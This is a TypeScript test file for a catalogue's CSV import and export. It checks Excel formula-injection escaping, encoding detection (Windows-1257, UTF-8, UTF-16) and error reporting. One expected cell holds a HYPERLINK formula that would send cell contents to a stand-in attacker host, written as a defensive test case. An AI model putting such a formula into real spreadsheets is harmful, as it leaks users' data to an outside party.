import { decodeCsv, exportCsv, importCsv, parseCsv } from '../../src/core/catalogue/csv';
import { defaultCatalogue } from '../../src/core/catalogue/load';
import { catalogueTable } from '../../src/core/catalogue/table';
import { DataError } from '../../src/core/schema';
import { catalogueCopy, excelCsv, formulaCatalogue, windows1257 } from './helpers';

// Issue 10, items 5 and 6: what Excel does with the CSV, both ways.

/** The raw cells of an RFC 4180 line (no apostrophe removed): what Excel itself reads. */
function rawCells(line: string): string[] {
  const cells: string[] = [];
  const re = /(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/gy;
  for (let m = re.exec(line); m && m.index < line.length; m = re.exec(line)) cells.push(m[1] !== undefined ? m[1].replace(/""/g, '"') : m[2]);
  return cells;
}

describe('formula injection (item 5)', () => {
  test('no exported cell begins with =, +, -, @, tab or CR: such a cell gets a leading apostrophe', () => {
    const csv = exportCsv(formulaCatalogue());
    const rows = csv.slice(1).split('\r\n').filter((l) => l !== '' && !l.startsWith(' '));
    const first = rawCells(rows[1]);
    expect(first[5]).toBe('\'=HYPERLINK("https://evil.example/?q="&A1,"Kliendikesksus")');
    expect(first[6]).toBe("'+1+1");
    expect(first[7]).toBe("'-2+3");
    expect(first[8]).toBe("'@SUM(A1:A9)");
    for (const line of rows) for (const cell of rawCells(line)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  test('the round trip gives back every text exactly, apostrophes of the user included', () => {
    const c = formulaCatalogue();
    c.competencies[1].description.et = 'CR ees'; // a line break inside a cell is read as "\n", CR or not
    const back = importCsv(exportCsv(c), 'k.csv', { base: c });
    expect(back.competencies).toEqual(c.competencies);
    expect(back.competencies[0].indicators.et[1]).toBe("'apostroof ees");
    expect(back.competencies[0].indicators.en[0]).toBe("'=juba kaitstud");
  });

  test('a cell the user protected in Excel (\'=…) imports without the apostrophe; other apostrophes stay', () => {
    expect(parseCsv("a,b,c\n'=1+1,'tere,''=x\n", 'k.csv')[1]).toEqual(['=1+1', "'tere", "'=x"]);
  });
});

describe('CSV as Excel saves it (item 6)', () => {
  const base = defaultCatalogue();

  test('semicolons (Estonian Excel) and tabs are detected from the first line', () => {
    for (const separator of [';', '\t', ',']) {
      expect(importCsv(excelCsv(separator), 'k.csv', { base }).competencies).toEqual(base.competencies);
    }
  });

  test('Windows-1257 is read as such, never as mojibake', () => {
    const c = catalogueCopy();
    c.competencies[0].name.et = 'Šokolaadi- ja žürii„kesksus“ – ÕÄÖÜ';
    const bytes = windows1257(excelCsv(';', catalogueTable(c)));
    expect(() => new TextDecoder('utf-8', { fatal: true }).decode(bytes)).toThrow(); // really not UTF-8
    const { text, encoding } = decodeCsv(bytes, 'k.csv');
    expect(encoding).toBe('Windows-1257');
    expect(importCsv(text, 'k.csv', { base }).competencies).toEqual(c.competencies);
  });

  test('another code page is refused with what to do, not guessed', () => {
    const refused = (bytes: number[]) => {
      try {
        decodeCsv(Uint8Array.from(bytes), 'k.csv');
      } catch (e) {
        expect(e).toBeInstanceOf(DataError);
        return (e as DataError).message;
      }
      throw new Error('accepted');
    };
    // "šokk" in Windows-1252 (š is 0x9a there, undefined in Windows-1257).
    expect(refused([0x9a, 0x6f, 0x6b, 0x6b])).toBe('k.csv: (root): is not UTF-8 text, nor Estonian text in the Windows code page; in Excel save it as "CSV UTF-8"');
    // "Привет" in Windows-1251: bytes that Windows-1257 would turn into Latvian letters.
    expect(refused([0xcf, 0xf0, 0xe8, 0xe2, 0xe5, 0xf2])).toMatch(/save it as "CSV UTF-8"/);
  });

  test('UTF-8 is read strictly: with or without a byte-order mark; UTF-16 with one (Excel "Unicode text")', () => {
    const text = excelCsv('\t');
    expect(decodeCsv(new TextEncoder().encode(text), 'k.csv')).toEqual({ text, encoding: 'UTF-8' });
    expect(decodeCsv(new TextEncoder().encode('\uFEFF' + text), 'k.csv')).toEqual({ text, encoding: 'UTF-8' });
    const utf16 = new Uint8Array(2 + text.length * 2);
    utf16.set([0xff, 0xfe]);
    for (let i = 0; i < text.length; i++) utf16.set([text.charCodeAt(i) & 0xff, text.charCodeAt(i) >> 8], 2 + 2 * i);
    expect(decodeCsv(utf16, 'k.csv')).toEqual({ text, encoding: 'UTF-16' });
  });

  test('errors after a cell with line breaks name the line the row starts on', () => {
    const rows = catalogueTable(defaultCatalogue()).slice(0, 3);
    rows[2][1] = 'boss';
    expect(() => importCsv(excelCsv(',', rows), 'k.csv', { base })).toThrow(/^k\.csv: competencies\[/);
    rows[2] = rows[2].slice(0, 3);
    // The first competency's two indicator cells hold four line breaks: its row spans lines 2-6.
    const csv = excelCsv(',', rows);
    expect(csv.slice(0, csv.indexOf(rows[2][0])).split('\n')).toHaveLength(7);
    expect(() => importCsv(csv, 'k.csv', { base })).toThrow('k.csv: line 7: has 3 fields; the header has 13');
  });
});
